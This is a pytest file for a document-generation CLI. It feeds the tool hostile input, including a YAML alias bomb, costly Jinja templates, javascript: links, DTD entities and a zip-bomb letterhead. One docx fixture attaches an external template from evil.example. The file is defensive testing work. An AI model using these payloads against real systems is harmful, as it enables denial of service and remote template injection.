"""Issue 14: hostile and broken input through the real command, each run bounded
in time (``bounded.SECONDS``) and memory (``bounded.MEMORY``): one clear error
naming the file and line, never "internal error", a hang or outside content."""
from __future__ import annotations

import io
import os
import sqlite3
import zipfile
from pathlib import Path

import pytest

from bounded import make_lib, one_clear_error, run
from test_docx_support import validate

ARG = "---\ntitle: T\n{meta}---\n{body}\n"


def brief_with(lib: Path, extra: str = "", body: str = "  - argument: public-safety\n") -> None:
    (lib / "brief.yaml").write_text(
        "to: secretary\ndate: 2023-02-21\nsubject: S\n" + extra + "body:\n" + body,
        encoding="utf-8")


@pytest.fixture()
def lib(tmp_path: Path) -> Path:
    return make_lib(tmp_path)


# ---------------------------------------------------------------- 1. YAML

@pytest.mark.parametrize("value, expected", [
    ("2023-02-30", "day is out of range"), ("0000-01-01", "year 0"),
    ("!!float abc", "not a valid number"), ("2023-01-01 25:00:00", "hour must be"),
])
def test_impossible_values_in_the_brief(lib: Path, value: str, expected: str) -> None:
    (lib / "brief.yaml").write_text(f"to: secretary\ndate: {value}\nbody:\n  - text: Hi.\n")
    one_clear_error(run("build", "brief.yaml", cwd=lib), "brief.yaml:2:", expected)


def test_list_key_in_the_brief(lib: Path) -> None:
    (lib / "brief.yaml").write_text("to: secretary\n? [a, b]\n: 1\nbody:\n  - text: Hi.\n")
    one_clear_error(run("build", "brief.yaml", cwd=lib), "brief.yaml:2:", "a key must be")


@pytest.mark.parametrize("depth", [1_000, 100_000])
def test_deep_nesting(lib: Path, depth: int) -> None:
    (lib / "brief.yaml").write_text("to: " + "[" * depth + "]" * depth + "\n")
    one_clear_error(run("build", "brief.yaml", cwd=lib), "brief.yaml:1:", "nest")


def test_broken_unused_items_do_not_break_a_build(lib: Path) -> None:
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n"
        for i in range(12))
    (lib / "snippets" / "bomb.md").write_text(ARG.format(meta=bomb, body="Hi."))
    (lib / "snippets" / "baddate.md").write_text(ARG.format(meta="vars: {d: 2023-02-30}\n", body="x"))
    (lib / "snippets" / "key.yaml").write_text("facts:\n  - id: k\n    ? [a, b]\n    : 1\n")
    result = run("build", "brief.yaml", "-f", "md", cwd=lib)
    assert result.returncode == 0, result.stderr
    checked = run("check", "--library", ".", cwd=lib)
    for text in ("bomb.md:", "expands to more than", "baddate.md:3:", "key.yaml:3:"):
        assert text in checked.stdout + checked.stderr
    assert "internal error" not in checked.stderr


# ---------------------------------------------------------------- 2. files

def test_non_utf8_library_files(lib: Path) -> None:
    (lib / "snippets" / "latin.md").write_bytes(b"---\ntitle: caf\xe9\n---\nx\n")
    (lib / "snippets" / "latin.yaml").write_bytes(b"facts:\n  - id: f\n    text: caf\xe9\n")
    assert run("build", "brief.yaml", "-f", "md", cwd=lib).returncode == 0
    brief_with(lib, body="  - argument: latin\n")
    one_clear_error(run("build", "brief.yaml", cwd=lib), "latin.md:2:", "not UTF-8")
    result = run("check", "--library", ".", cwd=lib)
    checked = result.stdout + result.stderr
    assert "latin.md:2: this library file is not UTF-8" in checked
    assert "latin.yaml:3: this library file is not UTF-8" in checked


def test_fifo_under_snippets_is_not_opened(lib: Path) -> None:
    os.mkfifo(lib / "snippets" / "pipe.md")
    assert run("build", "brief.yaml", "-f", "md", cwd=lib).returncode == 0
    result = run("check", "--library", ".", cwd=lib)
    assert "pipe.md: this library file is a pipe (FIFO)" in result.stdout + result.stderr


def test_letterhead_dev_zero(lib: Path) -> None:
    one_clear_error(run("build", "brief.yaml", "--letterhead", "/dev/zero", cwd=lib),
                    "/dev/zero", "a device, not a regular file")


def test_nul_byte_in_library(lib: Path) -> None:
    brief_with(lib, extra='library: "a\\0b"\n')
    one_clear_error(run("build", "brief.yaml", cwd=lib), "brief.yaml:4:", "NUL byte")


# ---------------------------------------------------------------- 3. types

@pytest.mark.parametrize("meta, expected", [
    ("vars: [a, b]\n", "vars of argument 'typed' should be a mapping"),
    ("vars: 5\n", "vars of argument 'typed' should be a mapping"),
])
def test_wrong_front_matter_types(lib: Path, meta: str, expected: str) -> None:
    (lib / "snippets" / "typed.md").write_text(ARG.format(meta=meta, body="x"))
    brief_with(lib, body="  - argument: typed\n")
    one_clear_error(run("build", "brief.yaml", cwd=lib), "typed.md:3:", expected)


@pytest.mark.parametrize("field, expected", [
    ("columns: two", "columns of signatories 'list' should be a whole number"),
    ("columns: [1, 2]", "columns of signatories 'list' should be a whole number"),
    ("per-row: many", "per-row of signatories 'list' should be a whole number"),
])
def test_wrong_signatory_types(lib: Path, field: str, expected: str) -> None:
    (lib / "snippets" / "sign.yaml").write_text(
        f"signatories:\n  - id: list\n    signers: [A, B]\n    {field}\n")
    brief_with(lib, extra="signatories: list\n")
    one_clear_error(run("build", "brief.yaml", cwd=lib), "sign.yaml:4:", expected)


def test_signers_a_number(lib: Path) -> None:
    (lib / "snippets" / "sign.yaml").write_text("signatories:\n  - id: list\n    signers: 5\n")
    brief_with(lib, extra="signatories: list\n")
    one_clear_error(run("build", "brief.yaml", cwd=lib), "sign.yaml:3:", "signers of signatories")


def test_cc_recipient_without_name(lib: Path) -> None:
    (lib / "snippets" / "people.yaml").write_text("recipients:\n  - id: noname\n    title: Chief\n")
    brief_with(lib, extra="cc: [noname]\n")
    one_clear_error(run("build", "brief.yaml", cwd=lib), "people.yaml:2:", "has no name")


@pytest.mark.parametrize("field", [
    "author: 5", "issued: {date-parts: null}", "issued: {date-parts: [[2021, words]]}",
    "issued: {date-parts: 2021}", "issued: {date-parts: [[2021, 13]]}",
    "issued: {date-parts: [[2021, 0]]}", "issued: {date-parts: [[2021, 2, 30]]}",
])
def test_wrong_csl_fields(lib: Path, field: str) -> None:
    (lib / "snippets" / "more.yaml").write_text(
        f"sources:\n  - id: odd\n    type: report\n    title: T\n    {field}\n")
    brief_with(lib, body="  - text: See.[@odd]\n")
    name = field.split(":")[0]
    one_clear_error(run("build", "brief.yaml", cwd=lib), "more.yaml:5:",
                    f"{name} of source 'odd' should be")


# ---------------------------------------------------------------- 4. templates

@pytest.mark.parametrize("body, expected", [
    ("{{" + "(" * 1000 + "1" + ")" * 1000 + "}}", "nested too deeply"),
    ("{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(1) }}", "calls itself"),
    ("{% for i in range(10**9) %}x{% endfor %}", "at most 1,000,000"),
    ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
     "ran for more than 2 seconds"),
    ("{{ 9**(9**9) }}", "power too large"),
    ("{{ 'a' * 10**9 }}", "1,000,000,000 characters"),
    ("{{ 'a'|center(10**9) }}", "at most 1,000,000"),
    ("{% set ns = namespace(s='ab') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}"
     "{% endfor %}", "at most 1,000,000"),
    ("{{ '{:999999999}'.format(1) }}", "width of a million"),
    ("{{ (['x' * 999999] * 999999)|join }}", "999,999,000,000 characters"),
    ("{{ ('x ' * 499999)|replace(' ', 'x' * 999999) }}", "characters or items"),
])
def test_costly_templates(lib: Path, body: str, expected: str) -> None:
    (lib / "snippets" / "costly.md").write_text(ARG.format(meta="", body=body))
    brief_with(lib, body="  - argument: costly\n")
    one_clear_error(run("build", "brief.yaml", "-f", "md", cwd=lib), "costly.md", expected)


# ---------------------------------------------------------------- 5. Word output

def test_long_tags_and_a_far_date(lib: Path) -> None:
    for n in range(23):
        tags = ", ".join(f"tag-{n}-{k}-long-enough" for k in range(3))
        (lib / "snippets" / f"arg{n}.md").write_text(ARG.format(meta=f"tags: [{tags}]\n", body=f"P{n}."))
    (lib / "brief.yaml").write_text("to: secretary\ndate: 2150-06-01\nbody:\n" + "".join(
        f"  - argument: arg{n}\n" for n in range(23)))
    result = run("build", "brief.yaml", cwd=lib)
    assert result.returncode == 0, result.stderr
    import docx
    word = docx.Document(str(lib / "out" / "brief.docx"))
    assert len(word.core_properties.keywords) <= 255
    assert word.core_properties.keywords.endswith("\u2026")
    validate(lib / "out" / "brief.docx")
    with zipfile.ZipFile(lib / "out" / "brief.docx") as z:
        assert z.infolist()[0].date_time[0] == 2107
        assert b"tag-22-2-long-enough" in z.read("docProps/custom.xml")


# ---------------------------------------------------------------- 7. ingest, history

def _docx(parts: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, text in parts.items():
            z.writestr(name, text)
    return out.getvalue()


@pytest.mark.parametrize("parts, expected", [
    ({"[Content_Types].xml": "<Types/>"}, "no document part"),
    ({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document"}, "not well-formed"),
    ({"[Content_Types].xml": "<Types/>", "word/document.xml":
      '<!DOCTYPE d [<!ENTITY e "x">]><d>&e;</d>'}, "declares a DTD"),
])
def test_malformed_ingest_docx(tmp_path: Path, parts: dict[str, str], expected: str) -> None:
    (tmp_path / "bad.docx").write_bytes(_docx(parts))
    one_clear_error(run("ingest", "bad.docx", "--dry-run", cwd=tmp_path), "bad.docx", expected)


def test_corrupt_history_database(lib: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("LETTERSMITH_HISTORY")  # the library's own file (tests/conftest.py)
    (lib / ".lettersmith").mkdir()
    (lib / ".lettersmith" / "history.sqlite").write_bytes(b"garbage" * 1000)
    for args in (("history",), ("snippets", "show", "public-safety")):
        one_clear_error(run(*args, cwd=lib), "history.sqlite", "cannot be used")


def test_locked_history_database(lib: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("LETTERSMITH_HISTORY")  # the library's own file (tests/conftest.py)
    (lib / ".lettersmith").mkdir()
    db = lib / ".lettersmith" / "history.sqlite"
    holder = sqlite3.connect(db, isolation_level=None)
    holder.execute("PRAGMA locking_mode = EXCLUSIVE")
    holder.execute("BEGIN EXCLUSIVE")
    try:
        one_clear_error(run("history", cwd=lib, env={"LETTERSMITH_HISTORY_WAIT_MS": "1000"}),
                        "history.sqlite", "another lettersmith")
    finally:
        holder.close()


# ---------------------------------------------------------------- 8-11. nothing from outside

def test_symlinks_out_of_the_library(lib: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    outside = tmp_path_factory.mktemp("outside") / "secret.md"
    outside.write_text("---\ntitle: S\n---\nTOP-SECRET-CONTENT\n")
    (lib / "snippets" / "leak.md").symlink_to(outside)
    (lib / "templates").mkdir()
    (lib / "templates" / "letter.md.j2").symlink_to(outside)
    result = run("build", "brief.yaml", "-f", "md", cwd=lib)
    one_clear_error(result, "letter.md.j2", "outside the library")
    (lib / "templates" / "letter.md.j2").unlink()
    brief_with(lib, body="  - argument: leak\n")
    result = run("build", "brief.yaml", "-f", "md,html,txt", cwd=lib)
    one_clear_error(result, "leak.md", "outside the library")
    assert not (lib / "out").exists()


@pytest.mark.parametrize("url", ["javascript:alert(1)", " JavaScript :alert(1)",
                                 "data:text/html,<b>x</b>", "java\tscript:x"])
def test_only_web_links(lib: Path, url: str) -> None:
    (lib / "snippets" / "more.yaml").write_text(
        f"sources:\n  - id: odd\n    type: webpage\n    title: T\n    URL: {url!r}\n")
    brief_with(lib, body="  - text: See.[@odd] And [this](javascript:x) or [mail](mailto:a@b.org).\n")
    result = run("build", "brief.yaml", "-f", "html,docx", cwd=lib)
    assert result.returncode == 0, result.stderr
    html = (lib / "out" / "brief.html").read_text()
    assert "href=\"javascript" not in html.lower() and "href=\"data" not in html.lower()
    assert 'href="mailto:a@b.org"' in html
    with zipfile.ZipFile(lib / "out" / "brief.docx") as z:
        rels = z.read("word/_rels/document.xml.rels").decode()
    assert "javascript" not in rels.lower() and "data:" not in rels
    assert "only http, https and mailto" in run("check", "brief.yaml", cwd=lib).stderr + \
        run("check", "brief.yaml", cwd=lib).stdout


def test_snippet_cannot_open_layout_containers(lib: Path) -> None:
    body = "Text.\n\n::: signatures columns=1;background:url(x)\nA\n:::\n"
    (lib / "snippets" / "fence.md").write_text(ARG.format(meta="", body=body))
    brief_with(lib, body="  - argument: fence\n")
    one_clear_error(run("build", "brief.yaml", "-f", "html", cwd=lib), "fence.md:6:",
                    "only templates may do that")
    (lib / "snippets" / "q.yaml").write_text(
        'quotes:\n  - id: q\n    text: "a\\n::: signatures columns=1;background:url(x)\\nX\\n:::"\n')
    brief_with(lib, body="  - quote: q\n")
    assert run("build", "brief.yaml", "-f", "html", cwd=lib).returncode == 0
    html = (lib / "out" / "brief.html").read_text()
    assert "background" not in html.split("</style>")[1].split("::: signatures")[0]
    assert 'style="columns: 1;background' not in html


def _letterhead(extra_parts: dict[str, bytes] | None = None, edit=None) -> bytes:
    from lettersmith.writers.docx.letterhead import DEFAULT_LETTERHEAD
    with zipfile.ZipFile(DEFAULT_LETTERHEAD) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    if edit:
        edit(parts)
    parts.update(extra_parts or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, blob in parts.items():
            z.writestr(name, blob)
    return out.getvalue()


def test_letterhead_external_relationships_dropped(lib: Path) -> None:
    def attach(parts: dict[str, bytes]) -> None:
        rels = parts.get("word/_rels/settings.xml.rels") or (
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"></Relationships>')
        parts["word/_rels/settings.xml.rels"] = rels.replace(b"</Relationships>", (
            b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
            b'TargetMode="External"/></Relationships>'))
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"</w:settings>", b'<w:attachedTemplate r:id="rIdX" xmlns:r="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships"/></w:settings>')
    (lib / "head.docx").write_bytes(_letterhead(edit=attach))
    result = run("build", "brief.yaml", "--letterhead", "head.docx", cwd=lib)
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(lib / "out" / "brief.docx") as z:
        everything = b"".join(z.read(i) for i in z.infolist())
    assert b"evil.example" not in everything and b"attachedTemplate" not in everything
    validate(lib / "out" / "brief.docx")


def test_letterhead_with_an_entity(lib: Path) -> None:
    def entity(parts: dict[str, bytes]) -> None:
        parts["word/styles.xml"] = parts["word/styles.xml"].replace(
            b"?>", b'?><!DOCTYPE x [<!ENTITY e "boom">]>', 1)
    (lib / "head.docx").write_bytes(_letterhead(edit=entity))
    one_clear_error(run("build", "brief.yaml", "--letterhead", "head.docx", cwd=lib),
                    "head.docx", "declares a DTD")


def test_letterhead_that_inflates(lib: Path) -> None:
    (lib / "head.docx").write_bytes(_letterhead({"word/media/big.bin": b"\0" * (300 << 20)}))
    one_clear_error(run("build", "brief.yaml", "--letterhead", "head.docx", cwd=lib),
                    "head.docx", "unpacks to more than")


# ---------------------------------------------------------------- 12-13, 15. writes

def test_failed_build_writes_nothing(lib: Path) -> None:
    (lib / "out" / "brief.txt").mkdir(parents=True)
    one_clear_error(run("build", "brief.yaml", "-f", "md,html,txt", cwd=lib),
                    "out/brief.txt", "is a folder")
    assert sorted(p.name for p in (lib / "out").iterdir()) == ["brief.txt"]


def test_modes_follow_the_umask_and_are_kept(lib: Path) -> None:
    old = os.umask(0o027)
    try:
        assert run("build", "brief.yaml", "-f", "md,docx", cwd=lib).returncode == 0
        assert run("schema", "-o", "schemas", cwd=lib).returncode == 0
        assert run("new", "new.yaml", cwd=lib).returncode == 0
        letter = Path(__file__).parent / "past-letters" / \
            "2023-02-21-seven-groups-end-287g-letter.txt"
        assert run("ingest", str(letter), "--into", "drafts", cwd=lib).returncode == 0
        (lib / "people.yaml").write_text("- {name: Ann Lee, title: Chief}\n- {name: Bo Diaz}\n")
        assert run("merge", "brief.yaml", "people.yaml", "-f", "md", "--zip", "-o", "merged",
                   cwd=lib).returncode == 0
    finally:
        os.umask(old)
    drafts = [p.relative_to(lib) for p in (lib / "drafts").rglob("*") if p.is_file()]
    assert drafts
    for path in ["out/brief.md", "out/brief.docx", "schemas/brief.schema.json", "new.yaml",
                 "merged/ann-lee.md", "merged/merge.csv", "merged/brief-merge.zip", *drafts]:
        assert (lib / path).stat().st_mode & 0o777 == 0o640, path
    (lib / "out" / "brief.md").chmod(0o604)
    assert run("build", "brief.yaml", "-f", "md,docx", cwd=lib).returncode == 0
    assert (lib / "out" / "brief.md").stat().st_mode & 0o777 == 0o604


def test_new_files_of_review_and_ingest_follow_the_umask_and_never_replace(tmp_path: Path) -> None:
    """review --apply's drafted sources and ingest's drafts go through create_new."""
    from lettersmith.output import create_new

    old = os.umask(0o022)
    try:
        create_new(tmp_path / "drafted.yaml", b"sources: []\n")
    finally:
        os.umask(old)
    assert (tmp_path / "drafted.yaml").stat().st_mode & 0o777 == 0o644
    with pytest.raises(FileExistsError):
        create_new(tmp_path / "drafted.yaml", b"other\n")
    assert (tmp_path / "drafted.yaml").read_bytes() == b"sources: []\n"
    assert [p.name for p in tmp_path.iterdir()] == ["drafted.yaml"]


@pytest.mark.parametrize("fmt", ["md", "html", "txt"])
def test_edits_to_text_formats_are_protected(lib: Path, fmt: str) -> None:
    assert run("build", "brief.yaml", "-f", fmt, cwd=lib).returncode == 0
    path = lib / "out" / f"brief.{fmt}"
    path.write_text(path.read_text() + "\nA reviewer's note.\n")
    one_clear_error(run("build", "brief.yaml", "-f", fmt, cwd=lib), f"brief.{fmt}", "changed")
    result = run("build", "brief.yaml", "-f", fmt, "--force", cwd=lib)
    assert result.returncode == 0
    assert "A reviewer's note." in (lib / "out" / f"brief.edited-1.{fmt}").read_text()


def test_docx_custom_property_change_is_detected(lib: Path) -> None:
    assert run("build", "brief.yaml", cwd=lib).returncode == 0
    path = lib / "out" / "brief.docx"
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    parts["docProps/custom.xml"] = parts["docProps/custom.xml"].replace(
        b"</Properties>", b'<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="9" '
        b'name="Status"><vt:lpwstr>Approved</vt:lpwstr></property></Properties>')
    with zipfile.ZipFile(path, "w") as z:
        for name, blob in parts.items():
            z.writestr(name, blob)
    one_clear_error(run("build", "brief.yaml", cwd=lib), "brief.docx", "changed")


def test_unwritable_folder_names_the_output(lib: Path) -> None:
    (lib / "blocker").write_text("a file where a folder should be")
    one_clear_error(run("build", "brief.yaml", "-f", "md", "-o", "blocker/out", cwd=lib),
                    "blocker/out/brief.md: cannot write")
    if os.geteuid() != 0:  # root writes anywhere
        (lib / "ro").mkdir(mode=0o555)
        message = one_clear_error(run("build", "brief.yaml", "-f", "md", "-o", "ro", cwd=lib),
                                  "ro/brief.md: cannot write")
        assert ".tmp" not in message
